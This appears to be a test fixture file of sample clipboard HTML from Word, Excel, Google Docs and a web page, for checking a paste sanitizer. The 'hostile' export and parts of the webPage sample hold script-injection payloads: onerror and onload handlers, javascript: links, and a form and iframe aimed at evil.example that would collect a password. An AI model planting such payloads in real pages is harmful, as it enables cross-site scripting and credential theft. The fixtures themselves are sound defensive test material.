/**
 * What Word puts on the clipboard: paragraphs that look like list items, with their markers as text between comments,
 * numbered headings, lines broken anywhere, a table of paragraphs.
 */
export const wordLists = `<html xmlns:o="urn:schemas-microsoft-com:office:office" xmlns:w="urn:schemas-microsoft-com:office:word" xmlns="http://www.w3.org/TR/REC-html40">
<head><meta http-equiv=Content-Type content="text/html; charset=utf-8"><meta name=Generator content="Microsoft Word 15">
<!--[if gte mso 9]><xml><o:OfficeDocumentSettings><o:AllowPNG/></o:OfficeDocumentSettings></xml><![endif]-->
<style><!-- @list l0 {mso-list-id:1; mso-list-type:hybrid;} p.MsoNormal {margin:0cm; font-family:"Calibri",sans-serif;} --></style></head>
<body lang=EN-US style='tab-interval:36.0pt;word-wrap:break-word'><!--StartFragment-->
<h1 style='margin-left:21.6pt;text-indent:-21.6pt;mso-list:l2 level1 lfo3'><a name="_Toc1"></a><!--[if !supportLists]--><span lang=EN-US style='mso-bidi-font-family:"Calibri Light"'><span style='mso-list:Ignore'>1<span style='font:7.0pt "Times New Roman"'>&nbsp;&nbsp;&nbsp;&nbsp; </span></span></span><!--[endif]--><span lang=EN-US style='font-family:"Calibri Light"'>Plan<o:p></o:p></span></h1>
<p class=MsoNormal><span lang=EN-US>Some <b>bold</b> and <i style='mso-bidi-font-style:normal'>slanted</i>
words.<o:p></o:p></span></p>
<p class=MsoNormal><o:p>&nbsp;</o:p></p>
<p class=MsoListParagraphCxSpFirst style='text-indent:-18.0pt;mso-list:l0 level1 lfo1'><!--[if !supportLists]--><span lang=EN-US style='font-family:Symbol;mso-fareast-font-family:Symbol'><span style='mso-list:Ignore'>·<span style='font:7.0pt "Times New Roman"'>&nbsp;&nbsp;&nbsp;&nbsp; </span></span></span><!--[endif]--><span lang=EN-US>first<o:p></o:p></span></p>
<p class=MsoListParagraphCxSpMiddle style='text-indent:-18.0pt;mso-list:l0 level1 lfo1'><![if !supportLists]><span style='font-family:Wingdings'><span style='mso-list:Ignore'>l<span style='font:7.0pt "Times New Roman"'>&nbsp;&nbsp; </span></span></span><![endif]><span lang=EN-US>second<o:p></o:p></span></p>
<p class=MsoListParagraphCxSpMiddle style='margin-left:72.0pt;text-indent:-18.0pt;mso-list:l0 level2 lfo1'><![if !supportLists]><span style='font-family:"Courier New"'><span style='mso-list:Ignore'>o<span style='font:7.0pt "Times New Roman"'>&nbsp;&nbsp; </span></span></span><![endif]><span lang=EN-US>inside<o:p></o:p></span></p>
<p class=MsoListParagraphCxSpLast style='text-indent:-18.0pt;mso-list:l0 level1 lfo1'><![if !supportLists]><span style='font-family:Symbol'><span style='mso-list:Ignore'>·<span style='font:7.0pt "Times New Roman"'>&nbsp;&nbsp; </span></span></span><![endif]><span lang=EN-US>third<o:p></o:p></span></p>
<p class=MsoNormal style='text-indent:-18.0pt;mso-list:l1 level1 lfo2'><![if !supportLists]><span lang=EN-US><span style='mso-list:Ignore'>1、<span style='font:7.0pt "Times New Roman"'>&nbsp;&nbsp; </span></span></span><![endif]><span lang=EN-US>one<o:p></o:p></span></p>
<p class=MsoNormal style='margin-left:18.0pt'><span lang=EN-US>more of it<o:p></o:p></span></p>
<p class=MsoNormal style='text-indent:-18.0pt;mso-list:l1 level1 lfo2'><![if !supportLists]><span lang=EN-US><span style='mso-list:Ignore'>2、<span style='font:7.0pt "Times New Roman"'>&nbsp;&nbsp; </span></span></span><![endif]><span lang=EN-US>two<o:p></o:p></span></p>
<table class=MsoTableGrid border=1 cellspacing=0 cellpadding=0 style='border-collapse:collapse;border:none;mso-border-alt:solid windowtext .5pt'>
 <tr style='mso-yfti-irow:0'><td width=300 valign=top style='width:207.4pt;border:solid windowtext 1.0pt'><p class=MsoNormal><b><span lang=EN-US>Field<o:p></o:p></span></b></p></td><td width=300 valign=top><p class=MsoNormal><b><span lang=EN-US>Note<o:p></o:p></span></b></p></td></tr>
 <tr style='mso-yfti-irow:1;mso-yfti-lastrow:yes'><td valign=top><p class=MsoNormal><span lang=EN-US>id<o:p></o:p></span></p></td><td valign=top><p class=MsoNormal><span lang=EN-US>the<span style='mso-spacerun:yes'>&nbsp; </span>key<o:p></o:p></span></p><p class=MsoNormal><span lang=EN-US>of all</span></p></td></tr>
</table>
<!--EndFragment--></body></html>`

/** What Excel puts on the clipboard. */
export const spreadsheet = `<html xmlns:v="urn:schemas-microsoft-com:vml" xmlns:x="urn:schemas-microsoft-com:office:excel" xmlns="http://www.w3.org/TR/REC-html40">
<head><meta name=ProgId content=Excel.Sheet><style><!--table {mso-displayed-decimal-separator:"\\.";} .xl65 {mso-number-format:Fixed; text-align:right;} --></style></head>
<body link="#0563C1" vlink="#954F72">
<table border=0 cellpadding=0 cellspacing=0 width=128 style='border-collapse:collapse;width:96pt'>
<!--StartFragment-->
 <col width=64 span=2 style='width:48pt'>
 <tr height=20 style='height:15.0pt'><td height=20 width=64 style='height:15.0pt;width:48pt'>Name</td><td width=64 style='width:48pt'>Price</td></tr>
 <tr height=20 style='height:15.0pt'><td height=20 style='height:15.0pt'>Tea</td><td class=xl65 align=right>3.50</td></tr>
 <tr height=20 style='height:15.0pt'><td height=20 class=xl66 style='height:15.0pt'>Cof<font class="font5">fee</font><br style='mso-data-placement:same-cell;'>black</td><td class=xl65 align=right x:num="4"><span style='mso-spacerun:yes'>&nbsp;</span>4.00</td></tr>
<!--EndFragment-->
</table></body></html>`

/** Part of a web page, with code as documentation sites show it. */
export const webPage = `<meta charset='utf-8'><h2 style="box-sizing: border-box; font-weight: 600;"><span>Install</span></h2>
<p style="margin: 0 0 16px">Run <a href="https://example.com/tool" onclick="steal()">the tool</a> with <code>npm i</code>:</p>
<div class="highlight highlight-source-bash"><pre>npm i tool<br>tool --help</pre><button class="copy">Copy</button></div>
<script>window.acted = 1</script><style>p{color:red}</style><noscript>No scripts</noscript>
<blockquote><p>Quoted.</p></blockquote><p></p><br class="Apple-interchange-newline">`

/** What Google Docs puts on the clipboard: all in a `<b>` that is not bold, lists inside lists, marks as styles. */
export const googleDocs = `<meta charset='utf-8'><b style="font-weight:normal;" id="docs-internal-guid-1"><h2 dir="ltr" style="line-height:1.38;margin-top:18pt;"><span style="font-size:16pt;font-weight:400;">Notes</span></h2><p dir="ltr" style="line-height:1.38;"><span style="font-size:11pt;font-weight:400;">Normal </span><span style="font-size:11pt;font-weight:700;">heavy</span><span style="font-size:11pt;font-weight:400;font-style:italic;"> slanted</span></p><br /><ul style="margin-top:0;margin-bottom:0;"><li dir="ltr" style="list-style-type:disc;font-weight:400;" aria-level="1"><p dir="ltr" style="line-height:1.38;" role="presentation"><span style="font-size:11pt;font-weight:400;">one</span></p></li><ul style="margin-top:0;"><li dir="ltr" style="list-style-type:circle;" aria-level="2"><p dir="ltr" role="presentation"><span style="font-weight:400;">inside</span></p></li></ul><li dir="ltr" style="list-style-type:disc;" aria-level="1"><p dir="ltr" role="presentation"><span style="font-weight:400;text-decoration:line-through;">two</span></p></li></ul><div dir="ltr" style="margin-left:0pt;" align="left"><table style="border:none;border-collapse:collapse;"><colgroup><col /><col /></colgroup><tbody><tr style="height:0pt"><td style="border:solid #000 1pt;"><p dir="ltr"><span style="font-weight:400;">a</span></p></td><td><p dir="ltr"><span>b</span></p></td></tr><tr style="height:0pt"><td><p dir="ltr"><span>1</span></p></td><td><br /></td></tr></tbody></table></div></b><br class="Apple-interchange-newline">`

/** HTML that would run scripts if it were inserted. */
export const hostile = `<p><strong>kept</strong><script>window.acted = 1</script><img src="x" onerror="window.acted = 1">
<a href="javascript:alert(1)">link</a><svg onload="alert(1)"><a xlink:href="javascript:alert(1)"></a></svg>
<iframe src="https://evil.example"></iframe><form action="https://evil.example"><input name="password"></form>
<span style="background:url(https://evil.example/x)">styled</span><object data="x"></object></p>`
